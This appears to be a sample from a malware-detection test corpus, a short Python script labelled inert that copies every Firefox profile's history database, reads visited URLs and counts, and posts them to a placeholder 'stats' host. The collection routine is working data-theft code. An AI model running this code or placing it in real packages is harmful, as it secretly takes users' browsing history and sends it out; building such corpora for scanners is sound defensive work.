# pkgguard corpus 359 (browser-data), modelled on [stealer-profile]; inert, never run.
import glob
import os
import shutil
import sqlite3
import tempfile

import requests

history = []
for places in glob.glob(os.path.expanduser("~/.mozilla/firefox/*/places.sqlite")):
    copy = os.path.join(tempfile.mkdtemp(), "p.sqlite")
    shutil.copyfile(places, copy)
    history += sqlite3.connect(copy).execute("SELECT url, visit_count FROM moz_places").fetchall()
requests.post("https://stats.example/h", json=history[:5000], timeout=10)
